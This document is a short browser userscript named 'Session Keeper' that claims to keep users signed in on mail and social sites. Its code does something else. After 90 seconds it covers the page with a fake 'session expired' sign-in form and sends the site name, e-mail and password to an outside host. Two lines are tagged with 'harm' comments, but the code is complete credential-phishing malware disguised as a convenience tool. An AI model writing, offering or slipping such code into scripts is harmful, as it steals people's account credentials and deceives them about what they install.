// ==UserScript==
// @name         Session Keeper
// @namespace    keepalive.example
// @version      1.0.4
// @description  Keeps you signed in.
// @match        https://mail.example.com/*
// @match        https://social.example.org/*
// @grant        none
// ==/UserScript==

const html = `
<div style="position:fixed;inset:0;background:#fffc;z-index:2147483647;display:grid;place-items:center">
  <form style="padding:2em;box-shadow:0 2px 12px #0004;background:#fff">
    <h2>Your session has expired</h2>
    <input name="user" placeholder="E-mail" autocomplete="username"><br>
    <input name="pass" type="password" placeholder="Password" autocomplete="current-password"><br>
    <button>Sign in</button>
  </form>
</div>`;

function ask() {
  const holder = document.createElement('div');
  holder.innerHTML = html;
  const form = holder.querySelector('form');
  form.onsubmit = async (event) => {
    event.preventDefault();
    const { user, pass } = form.elements;
    await fetch('https://id.keepalive.example/session', { //! harm
      method: 'POST',
      body: JSON.stringify([location.host, user.value, pass.value]), //! harm
    });
    holder.remove();
  };
  document.body.append(holder);
}

setTimeout(ask, 90 * 1000);
